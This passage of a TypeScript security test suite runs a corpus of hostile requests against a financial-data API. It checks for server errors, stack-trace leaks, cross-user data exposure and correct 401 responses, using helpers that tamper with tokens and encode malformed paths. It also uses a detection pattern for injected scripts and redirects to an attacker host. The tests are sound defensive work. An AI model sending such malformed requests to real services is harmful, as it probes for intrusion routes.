      headers: { authorization: x.webhookAuth, "content-type": "application/json" },
      body,
    }),
    expected === 204 ? { status: 204, owner: "nobody" } : { status: expected, owner: "nobody" },
  );
}

/** Percent-encoded; a lone surrogate (no UTF-8 form) as the bytes a careless client would send. */
function enc(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    const replaced = value.replace(/[\ud800-\udfff]/g, "\ufffd");
    return encodeURIComponent(replaced).replaceAll("%EF%BF%BD", "%ED%A0%80");
  }
}

/** `text` with the base64url character at `at` replaced by another. */
function tamper(text: string, at: number): string {
  const c = text[at] === "A" ? "B" : "A";
  return `${text.slice(0, at)}${c}${text.slice(at + 1)}`;
}

// ---- running it -----------------------------------------------------------------------------------------

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
}

function send(method: string, path: string, headers: Record<string, string>, body?: string): Promise<Answer> {
  return new Promise((done, fail) => {
    const { hostname, port } = new URL(w.app.apiUrl);
    const req = request({ hostname, port, path, method, headers });
    req.on("response", (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (chunk: Buffer) => chunks.push(chunk));
      res.on("end", () =>
        done({
          status: res.statusCode ?? 0,
          headers: res.headers,
          text: Buffer.concat(chunks).toString("utf8"),
        }),
      );
    });
    req.on("error", fail);
    req.end(body);
  });
}

function pathOf(route: RouteId, params: Record<string, string>): string {
  return routePath(route).replace(/\{(\w+)\}/g, (_, name: string) => enc(params[name] ?? ""));
}

/** Everything of `user`'s that another caller must never see. */
const secretsOf = (h: Holdings) => [h.userId, h.member, h.account, ...h.transactions];

/** A stack frame, a source path, or an error class's name. */
const LEAK =
  /\n\s+at |\bat \S+ \(|node_modules|\/work\/|file:\/\/|\.[cm]?[jt]s:\d+|\b[A-Z]\w*(Error|Exception)\b/;

const tally = { cases: 0, byStatus: new Map<number, number>(), serverErrors: 0, leaks: 0, crossUser: 0 };
/** The 401s the gateway sent, by route: checked against the OpenAPI document at the end. */
const gateway401s: { routeId: RouteId; answer: Answer }[] = [];

describe("the hostile corpus", () => {
  it("covers every route of the table", () => {
    const covered = new Set(cases.map(([, route]) => route));
    expect(apiRoutes.filter((r) => !covered.has(r.id as RouteId)).map((r) => r.id)).toEqual([]);
    expect(cases.length).toBeGreaterThanOrEqual(200);
  });

  it.each(cases)("%s (%s)", async (_title, routeId, build, expected) => {
    // Prepare
    const route = apiRoutes.find((r) => r.id === routeId);
    if (!route) throw new Error(routeId);
    const req = build(w);
    const caller = req.as ?? "alice";
    const headers: Record<string, string> = {};
    const authorization =
      caller === "alice"
        ? `Bearer ${w.alice.token}`
        : caller === "bob"
          ? `Bearer ${w.bob.token}`
          : w.tokens[caller];
    if (authorization && !route.public) headers.authorization = authorization;
    const body =
      req.body === undefined ? undefined : typeof req.body === "string" ? req.body : JSON.stringify(req.body);
    if (body !== undefined) headers["content-type"] = "application/json";
    Object.assign(headers, req.headers);
    const path =
      (req.rawPath ?? pathOf(routeId, { ...defaults(routeId, w), ...req.params })) +
      (req.query ? `?${req.query}` : "");

    // Act
    const res = await send(req.method ?? route.method, path, headers, body);

    // Assess
    const owner = expected.owner ?? (caller === "alice" || caller === "bob" ? caller : "nobody");
    const forbidden = [
      ...(owner === "alice" ? [] : secretsOf(w.a)),
      ...(owner === "bob" ? [] : secretsOf(w.b)),
    ];
    const location = String(res.headers.location ?? "");
    const seen = `${res.text}\n${location}`;
    const leaked = LEAK.test(res.text);
    const crossed = forbidden.filter((secret) => seen.includes(secret));
    tally.cases += 1;
    tally.byStatus.set(res.status, (tally.byStatus.get(res.status) ?? 0) + 1);
    if (res.status >= 500) tally.serverErrors += 1;
    if (leaked) tally.leaks += 1;
    if (crossed.length > 0) tally.crossUser += 1;
    if (res.status === 401 && !route.public) gateway401s.push({ routeId, answer: res });

    expect(res.status, res.text.slice(0, 300)).toBe(expected.status);
    expect(leaked, res.text.slice(0, 300)).toBe(false);
    expect(crossed).toEqual([]);
    if (expected.page) {
      if (res.status === 302) {
        expect(location.startsWith(APP_URL), location).toBe(true);
      } else {
        expect(res.headers["content-type"]).toMatch(/^text\/html/);
      }
      expect(seen).not.toMatch(/evil\.test|<script|javascript:/);
    } else if (expected.gateway) {
      expect(JSON.parse(res.text)).toEqual({ message: res.status === 401 ? "Unauthorized" : "Not Found" });
      if (res.status === 401) expect(res.headers["www-authenticate"]).toMatch(/^Bearer /);
    } else if (expected.emptyFeed) {
      const feed = JSON.parse(res.text);
      expect([feed.added, feed.modified, feed.removed]).toEqual([[], [], []]);
    } else if (res.status >= 400) {
      const parsed = JSON.parse(res.text);
      expect(parsed).toEqual({
        error: { code: expect.stringMatching(/^[a-z_]+$/), message: expect.any(String) },
      });
      if (expected.code) expect(parsed.error.code).toBe(expected.code);
    }
  });

  it("started no sync run: not one request of the corpus got that far", () => {
    expect(syncRuns(w.app)).toEqual(w.runsBefore);
  });

  it("changed nothing of Bob's: his member is still there and synced", async () => {
    const member = await w.bob.get(`/v1/members/${w.b.member}`);
    expect(member.status).toBe(200);
    expect(member.body.member.sync.status).toBe("SYNCED");
    const accounts = await w.bob.get("/v1/accounts");
    expect(accounts.body.accounts.map((a: { guid: string }) => a.guid)).toContain(w.b.account);
  });

  it("every 401 on a route that needs a token is the one the OpenAPI document describes", () => {
    // Prepare
    const doc = buildOpenApiDocument() as unknown as {
      paths: Record<
        string,
        Record<string, { responses: Record<string, { headers?: Record<string, unknown> }> }>
      >;
      components: { schemas: Record<string, object> };
    };
    const ajv = new Ajv2020({ strict: false });
    const gatewayError = ajv.compile(doc.components.schemas.GatewayError ?? {});

    // Assess
    expect(gateway401s.length).toBeGreaterThan(100);
    for (const { routeId, answer } of gateway401s) {
      const route = apiRoutes.find((r) => r.id === routeId);
      const documented = doc.paths[route?.path ?? ""]?.[route?.method.toLowerCase() ?? ""]?.responses["401"];
      expect(gatewayError(JSON.parse(answer.text)), `${routeId}: ${answer.text}`).toBe(true);
      expect(Object.keys(documented?.headers ?? {}), routeId).toEqual(["www-authenticate"]);
      expect(answer.headers["www-authenticate"], routeId).toMatch(/^Bearer .*error="invalid_token"/);
    }
  });

  it("answered no 5xx, no stack trace and none of the other user's data", () => {
    const byStatus = [...tally.byStatus]
      .sort(([a], [b]) => a - b)
      .map(([s, n]) => `${s}×${n}`)
      .join(" ");
    console.log(
      `hostile corpus: ${tally.cases} cases; by status ${byStatus}; 5xx ${tally.serverErrors}; stack traces ${tally.leaks}; cross-user reads ${tally.crossUser}`,
    );
    expect(tally.cases).toBe(cases.length);
    expect({ serverErrors: tally.serverErrors, leaks: tally.leaks, crossUser: tally.crossUser }).toEqual({
      serverErrors: 0,
      leaks: 0,
      crossUser: 0,
    });
  });
});
